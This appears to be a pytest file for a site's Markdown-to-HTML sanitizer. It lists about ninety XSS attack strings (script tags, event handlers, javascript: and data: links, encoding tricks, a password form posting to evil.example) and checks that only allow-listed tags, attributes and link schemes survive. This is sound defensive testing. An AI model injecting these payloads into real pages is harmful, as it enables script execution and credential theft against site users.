"""An answer's Markdown leaves nothing but the allow-list in the page."""

from html.parser import HTMLParser

import pytest

from web.site.markdown import ATTRIBUTES, REL, SCHEMES, TAGS, is_safe_link, to_html

ATTACKS = r'''
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\x20type="text/javascript">alert(1);</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" />
<IMG SRC="javascript:alert('XSS');">
<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>
<img src=`javascript:alert(1)`>
<img srcset="https://evil.example/a 1x">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">click</math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<style>@import 'https://evil.example/x.css';</style>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width: expression(alert(1));">x</div>
<link rel=stylesheet href=https://evil.example/x.css>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="https://evil.example/x.swf">
<form action="https://evil.example"><input name=password><button>go</button></form>
<input autofocus onfocus=alert(1)>
<body onload=alert(1)>
<video><source onerror="alert(1)"></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<template><script>alert(1)</script></template>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="https://example.com" onclick="alert(1)">x</a>
<a href="https://example.com" style="position:fixed">x</a>
<a id=x name=y class=z href="https://example.com">x</a>
<p onmouseover=alert(1)>x</p>
<b/onmouseover=alert(1)>x</b>
<xss onafterscriptexecute=alert(1)>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x]( javascript:alert(1))
[x](java&#115;cript:alert(1))
[x](java&Tab;script:alert(1))
[x](&#x6A;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](\u0001javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg onload=alert(1)>)
[x](file:///etc/passwd)
[x](//evil.example/x)
[x](/owner/delete)
[x](?lang=en)
[x](#top)
[x](blob:https://example.com/1)
[x](https://example.com "onclick=alert(1)")
[x](https://example.com "\" onclick=\"alert(1)")
[x](<javascript:alert(1)>)
[x]: javascript:alert(1)
[x][y] [y]: javascript:alert(1)
![x](https://evil.example/pixel.png)
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2Zz4=)
![x" onerror="alert(1)](https://evil.example/x)
![<script>alert(1)</script>](x)
[![x](https://evil.example/p.png)](https://example.com)
<javascript:alert(1)>
<https://example.com/"onmouseover="alert(1)>
`<script>alert(1)</script>`
```"><script>alert(1)</script>
    <script>alert(1)</script>
| <img src=x onerror=alert(1)> | b |
> <svg/onload=alert(1)>
# <img src=x onerror=alert(1)>
~~<script>alert(1)</script>~~
**<a href=javascript:alert(1)>x</a>**
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
'''.strip().splitlines()


class Elements(HTMLParser):
    """Every element with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def test_there_are_at_least_sixty_attacks() -> None:
    assert len(set(ATTACKS)) >= 60


@pytest.mark.parametrize("attack", [*ATTACKS, "\n\n".join(ATTACKS)])
def test_s21_no_element_or_attribute_outside_the_list_is_left(attack: str) -> None:
    for tag, attributes in Elements(to_html(attack)).found:
        assert tag in TAGS
        added = {"a": {"rel", "target"}, "pre": {"tabindex"}, "table": {"tabindex"}}
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | added.get(tag, set())


@pytest.mark.parametrize("attack", [*ATTACKS, "\n\n".join(ATTACKS)])
def test_s22_s23_links_lead_to_four_schemes_and_nothing_loads_by_itself(attack: str) -> None:
    for tag, attributes in Elements(to_html(attack)).found:
        assert tag not in {"img", "video", "audio", "iframe", "link", "source"}
        if attributes.get("href"):
            assert str(attributes["href"]).partition(":")[0] in SCHEMES


@pytest.mark.parametrize(
    "url", ["https://example.com/a?b=c", "http://example.com", "tel:+81312345678", "mailto:a@b.example"]
)
def test_s22_a_good_link_is_kept_and_opens_apart(url: str) -> None:
    (_, link) = next(found for found in Elements(to_html(f"[here]({url})")).found if found[0] == "a")
    assert link == {"href": url, "target": "_blank", "rel": REL}


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("**太字**と*斜体*", "<p><strong>太字</strong>と<em>斜体</em></p>"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("first\nsecond", "<p>first<br>\nsecond</p>"),
        ("~~old~~", "<p><s>old</s></p>"),
        ("`a < b`", "<p><code>a &lt; b</code></p>"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
        ("![a cat](https://example.com/cat.png)", "<p>a cat</p>"),
        ("", ""),
    ],
)
def test_ordinary_markdown_is_shown_as_meant(markdown: str, html: str) -> None:
    assert to_html(markdown).strip() == html


def test_a_table_is_kept() -> None:
    assert "<td>500円</td>" in to_html("| 名前 | 価格 |\n| --- | --- |\n| 基本 | 500円 |")


@pytest.mark.parametrize(
    "text", ["[" * 10_000, "*" * 10_000, "> " * 5_000, "`" * 10_000, "![" * 5_000, "\0\ufffd\u202e"]
)
def test_hard_texts_are_rendered_too(text: str) -> None:
    to_html(text)


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://a.example", True),
        ("HTTPS://a.example", True),
        ("javascript:alert(1)", False),
        (" javascript:alert(1)", False),
        ("/owner", False),
        ("//a.example", False),
        ("", False),
        ("https", False),
    ],
)
def test_only_whole_links_of_four_kinds_are_safe(url: str, safe: bool) -> None:
    assert is_safe_link(url) is safe
